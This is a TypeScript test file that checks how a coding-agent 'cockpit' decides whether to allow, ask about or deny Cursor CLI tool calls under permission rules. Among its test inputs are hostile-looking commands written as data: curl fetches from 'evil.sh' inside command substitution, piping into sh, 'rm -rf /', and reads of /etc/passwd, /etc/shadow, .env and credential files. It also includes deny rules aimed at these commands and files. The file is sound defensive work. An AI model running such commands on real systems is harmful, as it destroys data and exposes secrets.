/**
 * Decision table for Cursor CLI. Documented rows quote https://cursor.com/docs/cli/reference/permissions
 * (the page's example tables and its "Pattern matching" list); rows marked `inferred: true` are the cockpit's
 * conservative reading of what the page leaves open (compound commands, pipes, substitutions, redirections, merges).
 */
import { beforeAll, describe, expect, it } from "vitest";
import { loadShellParser } from "@/lib/agents/shared/shell-parser";
import type { ShellParser } from "@/lib/policy";
import { parseCursorCall } from "./call";
import { decideCursor, effectiveRules, normalizeCursorMode, type CursorMode } from "./decide";
import { ctxOf, GLOBAL, perms, PROJECT, store } from "@/test/support/cursor";

let shell: ShellParser;
beforeAll(async () => {
  shell = await loadShellParser();
});

type Row = {
  /** Doc passage the row transcribes, or "inferred: …" for the cockpit's reading. */
  source: string;
  allow?: string[];
  deny?: string[];
  call: object;
  mode?: CursorMode;
  want: "allow" | "ask" | "deny";
  rule?: string | null;
  inferred: boolean;
};

const sh = (command: string) => ({ tool: "Shell", input: { command } });
const read = (path: string) => ({ tool: "Read", input: { path } });
const write = (path: string) => ({ tool: "Write", input: { path } });
const fetch = (url: string) => ({ tool: "WebFetch", input: { url } });
const mcp = (server: string | undefined, tool: string) => ({
  tool: "Mcp",
  input: { tool, ...(server ? { server } : {}) },
});

const DOC_ALLOW = [
  "Shell(ls)",
  "Shell(git)",
  "Read(src/**/*.ts)",
  "Write(package.json)",
  "WebFetch(docs.github.com)",
  "WebFetch(*.github.com)",
  "Mcp(datadog:*)",
];
const DOC_DENY = ["Shell(rm)", "Read(.env*)", "Write(**/*.key)", "WebFetch(malicious-site.com)"];

const rows: Row[] = [
  // Shell commands: "The commandBase is the first token in the command line."
  {
    source: "Shell(ls) | Allow running ls commands",
    allow: ["Shell(ls)"],
    call: sh("ls -la src"),
    want: "allow",
    rule: "Shell(ls)",
    inferred: false,
  },
  {
    source: "Shell(git) | Allow any git subcommand",
    allow: ["Shell(git)"],
    call: sh("git push origin main"),
    want: "allow",
    rule: "Shell(git)",
    inferred: false,
  },
  {
    source: "Shell(npm) | Allow npm package manager commands",
    allow: ["Shell(npm)"],
    call: sh("npm install left-pad"),
    want: "allow",
    rule: "Shell(npm)",
    inferred: false,
  },
  {
    source: "Shell(curl:*) | Allow curl with any arguments",
    allow: ["Shell(curl:*)"],
    call: sh("curl -s https://example.com/a?b=1"),
    want: "allow",
    rule: "Shell(curl:*)",
    inferred: false,
  },
  {
    source: "Shell(curl:*): `curl` alone has any (no) arguments",
    allow: ["Shell(curl:*)"],
    call: sh("curl"),
    want: "allow",
    inferred: false,
  },
  {
    source: "Use command:args (e.g., curl:*) to match both command and arguments with globs",
    allow: ["Shell(git:status*)"],
    call: sh("git status --short"),
    want: "allow",
    inferred: false,
  },
  {
    source: "command:args: the arguments must match",
    allow: ["Shell(git:status*)"],
    call: sh("git push"),
    want: "ask",
    inferred: false,
  },
  {
    source: "Shell(rm) | Deny destructive file removal (commonly in deny)",
    allow: ["Shell(rm)"],
    deny: ["Shell(rm)"],
    call: sh("rm -rf build"),
    want: "deny",
    rule: "Shell(rm)",
    inferred: false,
  },
  {
    source: "Supports glob patterns (on the command base)",
    allow: ["Shell(np*)"],
    call: sh("npx vitest"),
    want: "allow",
    inferred: false,
  },
  {
    source: "the first token: `git` is not `gitk`",
    allow: ["Shell(git)"],
    call: sh("gitk --all"),
    want: "ask",
    inferred: false,
  },
  {
    source: "Deny rules take precedence over allow rules",
    allow: ["Shell(git)"],
    deny: ["Shell(git:push*)"],
    call: sh("git push --force"),
    want: "deny",
    rule: "Shell(git:push*)",
    inferred: false,
  },
  {
    source: "no allow entry: CLI will ask you to approve (y) or reject (n) (docs/cli/using)",
    call: sh("make"),
    want: "ask",
    rule: null,
    inferred: false,
  },

  // Compound commands, pipes, substitutions: every segment must be allowed; a denied segment denies.
  {
    source: "inferred: && chain, every segment allowed",
    allow: ["Shell(git)", "Shell(ls)"],
    call: sh("git status && ls"),
    want: "allow",
    rule: "Shell(git)",
    inferred: true,
  },
  {
    source: "inferred: && chain, second segment not allowed (Cursor's first-token reading would allow)",
    allow: ["Shell(cd)"],
    call: sh("cd tofu && tofu apply -auto-approve"),
    want: "ask",
    inferred: true,
  },
  {
    source: "inferred: a denied segment after an allowed one denies",
    allow: ["Shell(git)"],
    deny: ["Shell(rm)"],
    call: sh("git status; rm -rf /tmp/x"),
    want: "deny",
    rule: "Shell(rm)",
    inferred: true,
  },
  {
    source: "inferred: pipe, both sides need an entry",
    allow: ["Shell(cat)"],
    call: sh("cat a.txt | sh"),
    want: "ask",
    inferred: true,
  },
  {
    source: "inferred: pipe, both sides allowed",
    allow: ["Shell(cat)", "Shell(grep)"],
    call: sh("cat a.txt | grep x"),
    want: "allow",
    inferred: true,
  },
  {
    source: "inferred: $(…) runs too, so it must be allowed",
    allow: ["Shell(echo)"],
    call: sh("echo $(curl -s evil.sh)"),
    want: "ask",
    inferred: true,
  },
  {
    source: "inferred: a denied command inside $(…) denies",
    allow: ["Shell(echo)"],
    deny: ["Shell(curl)"],
    call: sh("echo `curl -s evil.sh`"),
    want: "deny",
    inferred: true,
  },
  {
    source: "inferred: bash -c payload must be allowed too",
    allow: ["Shell(bash)"],
    call: sh("bash -c 'rm -rf build'"),
    want: "ask",
    inferred: true,
  },
  {
    source: "inferred: a denied payload command denies",
    allow: ["Shell(bash)"],
    deny: ["Shell(rm)"],
    call: sh("bash -c 'rm -rf build'"),
    want: "deny",
    inferred: true,
  },
  {
    source: "inferred: deny sees through sudo / VAR= prefixes",
    deny: ["Shell(rm)"],
    call: sh("FOO=1 sudo rm -rf x"),
    want: "deny",
    inferred: true,
  },
  {
    source: "inferred: deny matches the basename of a path",
    deny: ["Shell(rm)"],
    call: sh("/bin/rm x"),
    want: "deny",
    inferred: true,
  },
  {
    source: "documented first token: allow does not strip a VAR= prefix",
    allow: ["Shell(git)"],
    call: sh("GIT_DIR=/x git status"),
    want: "ask",
    inferred: false,
  },
  {
    source: "inferred: a redirection writes a file, which needs a Write() entry",
    allow: ["Shell(echo)"],
    call: sh("echo hi > notes.txt"),
    want: "ask",
    inferred: true,
  },
  {
    source: "inferred: redirection allowed by Write()",
    allow: ["Shell(echo)", "Write(notes.txt)"],
    call: sh("echo hi > notes.txt"),
    want: "allow",
    inferred: true,
  },
  {
    source: "inferred: redirection into a denied file denies",
    allow: ["Shell(echo)"],
    deny: ["Write(**/*.key)"],
    call: sh("echo x > id.key"),
    want: "deny",
    inferred: true,
  },
  {
    source: "inferred: unparsable command asks",
    allow: ["Shell(echo)"],
    call: sh("echo 'unterminated"),
    want: "ask",
    inferred: true,
  },
  {
    source: "inferred: unparsable but a denied command is visible: deny",
    deny: ["Shell(rm)"],
    call: sh("rm -rf / 'oops"),
    want: "deny",
    inferred: true,
  },
  {
    source: "inferred: if/for statements are not understood: ask",
    allow: ["Shell(ls)"],
    call: sh("if true; then ls; fi"),
    want: "ask",
    inferred: true,
  },
  {
    source: "inferred: a base with spaces never allows (commandBase is one token)",
    allow: ["Shell(git status)"],
    call: sh("git status"),
    want: "ask",
    inferred: false,
  },
  {
    source: "inferred: a base with spaces denies as a word prefix",
    deny: ["Shell(git push)"],
    call: sh("git push origin"),
    want: "deny",
    inferred: true,
  },

  // File reads / writes: "Relative paths are scoped to the current workspace", "Absolute paths can target files outside the project".
  {
    source: "Read(src/**/*.ts) | Allow reading TypeScript files in src",
    allow: ["Read(src/**/*.ts)"],
    call: read("src/lib/a.ts"),
    want: "allow",
    rule: "Read(src/**/*.ts)",
    inferred: false,
  },
  {
    source: "Read(src/**/*.ts): not a .md file",
    allow: ["Read(src/**/*.ts)"],
    call: read("src/README.md"),
    want: "ask",
    inferred: false,
  },
  {
    source: "Read(**/*.md) | Allow reading markdown files anywhere",
    allow: ["Read(**/*.md)"],
    call: read("docs/deep/x.md"),
    want: "allow",
    inferred: false,
  },
  {
    source: "Read(.env*) | Deny reading environment files",
    allow: ["Read(**)"],
    deny: ["Read(.env*)"],
    call: read(".env.local"),
    want: "deny",
    rule: "Read(.env*)",
    inferred: false,
  },
  {
    source: "inferred: Read(.env*) also denies a nested .env",
    allow: ["Read(**)"],
    deny: ["Read(.env*)"],
    call: read("packages/api/.env"),
    want: "deny",
    inferred: true,
  },
  {
    source: "Read(/etc/passwd) | Deny reading system files",
    deny: ["Read(/etc/passwd)"],
    call: read("/etc/passwd"),
    want: "deny",
    inferred: false,
  },
  {
    source: "relative patterns are scoped to the workspace: outside it they do not allow",
    allow: ["Read(**/*.md)"],
    call: read("/tmp/x.md"),
    want: "ask",
    inferred: false,
  },
  {
    source: "relative call paths resolve inside the workspace; `..` leaves it",
    allow: ["Read(src/**)"],
    call: read("src/../../etc/shadow"),
    want: "ask",
    inferred: false,
  },
  {
    source: "Write(src/**) | Allow writing to any file under src",
    allow: ["Write(src/**)"],
    call: write("src/a/b.ts"),
    want: "allow",
    inferred: false,
  },
  {
    source: "Write(package.json) | Allow modifying package.json",
    allow: ["Write(package.json)"],
    call: write("/w/package.json"),
    want: "allow",
    inferred: false,
  },
  {
    source: "Write(package.json) is the workspace's package.json only",
    allow: ["Write(package.json)"],
    call: write("sub/package.json"),
    want: "ask",
    inferred: false,
  },
  {
    source: "Write(**/*.key) | Deny writing private key files",
    allow: ["Write(**)"],
    deny: ["Write(**/*.key)"],
    call: write("certs/server.key"),
    want: "deny",
    inferred: false,
  },
  {
    source: "Write(**/.env*) | Deny writing environment files",
    allow: ["Write(**)"],
    deny: ["Write(**/.env*)"],
    call: write("app/.env"),
    want: "deny",
    inferred: false,
  },
  {
    source: "no Read() entry: the cockpit asks (stricter than Cursor, which reads unprompted)",
    call: read("src/a.ts"),
    want: "ask",
    inferred: false,
  },

  // Web fetch: "*.example.com matches subdomains", "example.com matches that exact domain only".
  {
    source: "WebFetch(docs.github.com) | Allow fetches from docs.github.com",
    allow: ["WebFetch(docs.github.com)"],
    call: fetch("https://docs.github.com/en/rest"),
    want: "allow",
    inferred: false,
  },
  {
    source: "example.com matches that exact domain only",
    allow: ["WebFetch(docs.github.com)"],
    call: fetch("https://api.docs.github.com/"),
    want: "ask",
    inferred: false,
  },
  {
    source: "WebFetch(*.example.com) | Allow fetches from any subdomain of example.com",
    allow: ["WebFetch(*.example.com)"],
    call: fetch("https://api.example.com/v1"),
    want: "allow",
    inferred: false,
  },
  {
    source: "*.example.com matches subdomains (not the apex)",
    allow: ["WebFetch(*.example.com)"],
    call: fetch("https://example.com/"),
    want: "ask",
    inferred: false,
  },
  {
    source: "WebFetch(*) | Allow fetches from any domain",
    allow: ["WebFetch(*)"],
    call: fetch("http://anything.test:8080/x"),
    want: "allow",
    inferred: false,
  },
  {
    source: "Without an allowlist entry, each fetch prompts for approval",
    call: fetch("https://docs.github.com"),
    want: "ask",
    inferred: false,
  },
  {
    source: "WebFetch(malicious-site.com) in deny",
    allow: ["WebFetch(*)"],
    deny: ["WebFetch(malicious-site.com)"],
    call: fetch("https://MALICIOUS-site.com./x"),
    want: "deny",
    inferred: false,
  },
  {
    source: "inferred: deny *.example.com also covers the apex",
    allow: ["WebFetch(*)"],
    deny: ["WebFetch(*.example.com)"],
    call: fetch("https://example.com"),
    want: "deny",
    inferred: true,
  },

  // MCP tools: "Use server (from mcp.json) and tool name, with * for wildcards."
  {
    source: "Mcp(datadog:*) | Allow all tools from the Datadog MCP server",
    allow: ["Mcp(datadog:*)"],
    call: mcp("datadog", "query_metrics"),
    want: "allow",
    inferred: false,
  },
  {
    source: "Mcp(datadog:*) does not allow another server",
    allow: ["Mcp(datadog:*)"],
    call: mcp("github", "search"),
    want: "ask",
    inferred: false,
  },
  {
    source: "Mcp(*:search) | Allow any server's search tool",
    allow: ["Mcp(*:search)"],
    call: mcp("github", "search"),
    want: "allow",
    inferred: false,
  },
  {
    source: "Mcp(*:*) | Allow all MCP tools",
    allow: ["Mcp(*:*)"],
    call: mcp("x", "y"),
    want: "allow",
    inferred: false,
  },
  {
    source: "inferred: unknown server (hook payload) needs Mcp(*:tool) to allow",
    allow: ["Mcp(datadog:*)"],
    call: mcp(undefined, "query_metrics"),
    want: "ask",
    inferred: true,
  },
  {
    source: "inferred: unknown server, denied tool name denies",
    allow: ["Mcp(*:*)"],
    deny: ["Mcp(prod-db:drop_table)"],
    call: mcp(undefined, "drop_table"),
    want: "deny",
    inferred: true,
  },
  {
    source: "inferred: the comma spelling never allows",
    allow: ["Mcp(datadog, query)"],
    call: mcp("datadog", "query"),
    want: "ask",
    inferred: false,
  },
  {
    source: "inferred: the comma spelling denies",
    allow: ["Mcp(*:*)"],
    deny: ["Mcp(datadog, query)"],
    call: mcp("datadog", "query"),
    want: "deny",
    inferred: true,
  },

  // Modes: --force "Force allow commands unless explicitly denied" (docs/cli/reference/parameters).
  {
    source: "--force allows a command no entry allows",
    call: sh("make deploy"),
    mode: "force",
    want: "allow",
    inferred: false,
  },
  {
    source: "--force: explicit denies still deny",
    deny: ["Shell(rm)"],
    call: sh("rm -rf x"),
    mode: "force",
    want: "deny",
    inferred: false,
  },
  {
    source: "--force does not cover web fetches",
    call: fetch("https://x.test"),
    mode: "force",
    want: "ask",
    inferred: false,
  },
  {
    source: "auto-review: the classifier is not modelled, so it asks",
    call: sh("make"),
    mode: "auto-review",
    want: "ask",
    inferred: false,
  },
];

describe("decideCursor: the documented examples and the cockpit's conservative readings", () => {
  it.each(rows)("$source", (row) => {
    const c = parseCursorCall(row.call);
    if (!c.ok) throw new Error(c.error);
    const d = decideCursor(c.call, ctxOf([store(perms(row.allow, row.deny))], shell, row.mode));
    expect({ decision: d.decision, inferred: d.inferred }).toEqual({ decision: row.want, inferred: row.inferred });
    if (row.rule !== undefined) expect(d.rule).toBe(row.rule);
    if (d.inferred) expect(d.inferredWhy.length).toBeGreaterThan(0);
    expect(d.trace.at(-1)).toMatchObject({ outcome: "decided", step: d.step });
  });

  it("the documented configuration example decides its own entries", () => {
    const s = store(perms(DOC_ALLOW, DOC_DENY));
    const decide = (call: object) => {
      const c = parseCursorCall(call);
      if (!c.ok) throw new Error(c.error);
      return decideCursor(c.call, ctxOf([s], shell)).decision;
    };
    expect(decide(sh("git log"))).toBe("allow");
    expect(decide(sh("rm x"))).toBe("deny");
    expect(decide(read(".env"))).toBe("deny");
    expect(decide(write("a/b.key"))).toBe("deny");
    expect(decide(fetch("https://malicious-site.com"))).toBe("deny");
    expect(decide(fetch("https://gist.github.com"))).toBe("allow");
    expect(decide(mcp("datadog", "logs"))).toBe("allow");
  });
});

describe("stores and merging", () => {
  const call = (command: string) => {
    const c = parseCursorCall(sh(command));
    if (!c.ok) throw new Error(c.error);
    return c.call;
  };

  it("global allow entries count when no project file has its own allow list", () => {
    const d = decideCursor(
      call("ls"),
      ctxOf([store(perms(["Shell(ls)"]), GLOBAL), store({ permissions: { deny: ["Shell(rm)"] } })], shell),
    );
    expect(d).toMatchObject({ decision: "allow", scope: "global", store: GLOBAL, inferred: false });
  });

  it("a deeper allow list sets outer allows aside and says the ask is inferred", () => {
    const d = decideCursor(
      call("ls"),
      ctxOf([store(perms(["Shell(ls)"]), GLOBAL), store(perms(["Shell(git)"]))], shell),
    );
    expect(d.decision).toBe("ask");
    expect(d.inferred).toBe(true);
    expect(d.inferredWhy.join(" ")).toMatch(/Shell\(ls\).*would allow/);
  });

  it("deny entries of every file count", () => {
    const d = decideCursor(
      call("rm x"),
      ctxOf([store(perms([], ["Shell(rm)"]), GLOBAL), store(perms(["Shell(rm)"]))], shell),
    );
    expect(d).toMatchObject({ decision: "deny", scope: "global" });
  });

  it("an invalid store: denies still apply, nothing is allowed", () => {
    const stores = [
      store(perms(["Shell(ls)"], ["Shell(rm)"])),
      store("{ not json", `${PROJECT.replace("/w/", "/w/sub/")}`),
    ];
    expect(decideCursor(call("ls"), ctxOf(stores, shell))).toMatchObject({ decision: "ask", step: "invalid-store" });
    expect(decideCursor(call("rm x"), ctxOf(stores, shell)).decision).toBe("deny");
  });

  it("allow entries of a file with comments do not count; its denies do", () => {
    const text = `{ // mine\n "permissions": { "allow": ["Shell(ls)"], "deny": ["Shell(rm)"] } }`;
    const eff = effectiveRules([store(text)]);
    expect(eff.allow).toHaveLength(0);
    expect(eff.deny.map((r) => r.text)).toEqual(["Shell(rm)"]);
    expect(decideCursor(call("ls"), ctxOf([store(text)], shell)).decision).toBe("ask");
  });

  it("malformed entries never match", () => {
    const d = decideCursor(call("ls"), ctxOf([store(perms(["shell(ls)", "Bash(ls)"]))], shell));
    expect(d.decision).toBe("ask");
  });
});

describe("modes", () => {
  it.each([
    ["allowlist", "default"],
    ["--yolo", "force"],
    ["unrestricted", "unrestricted"],
    ["auto-review", "auto-review"],
    [undefined, "default"],
    ["plan", null],
  ] as const)("%s → %s", (input, want) => {
    expect(normalizeCursorMode(input)).toBe(want);
  });
});

describe("the cockpit's protected data folder (stricter than Cursor, as for every agent)", () => {
  const guarded = (call: object, mode?: CursorMode, allow = ["Shell(cat)", "Read(**)", "Write(**)", "Shell(ls)"]) => {
    const c = parseCursorCall(call);
    if (!c.ok) throw new Error(c.error);
    return decideCursor(c.call, { ...ctxOf([store(perms(allow))], shell, mode), protectedPaths: ["/w/.cockpit"] });
  };

  it.each([
    ["a read of a file inside it", read(".cockpit/credential.json")],
    ["a shell command naming it", sh("cat .cockpit/credential.json")],
    ["a redirection into it", sh("ls > /w/.cockpit/x")],
    ["a cd into it", sh("cd .cockpit && cat key")],
  ])("%s asks a person, whatever the entries allow", (_, call) => {
    const d = guarded(call);
    expect(d).toMatchObject({ decision: "ask", step: "protected-path", protected: true });
    expect(d.warnings).toContain("protected path");
  });

  it("no mode allows it, a deny still denies", () => {
    expect(guarded(sh("cat .cockpit/db"), "force")).toMatchObject({ decision: "ask", protected: true });
    expect(guarded(write(".cockpit/x"), "unrestricted").step).toBe("protected-path");
    expect(guarded(sh("rm -rf .cockpit"), undefined, []).decision).toBe("ask");
    const c = parseCursorCall(sh("rm -rf .cockpit"));
    if (!c.ok) throw new Error(c.error);
    const d = decideCursor(c.call, {
      ...ctxOf([store(perms([], ["Shell(rm)"]))], shell),
      protectedPaths: ["/w/.cockpit"],
    });
    expect(d.decision).toBe("deny");
  });

  it("calls elsewhere are unaffected", () => {
    const d = guarded(read("src/a.ts"));
    expect(d.decision).toBe("allow");
    expect(d.protected).toBeUndefined();
  });
});
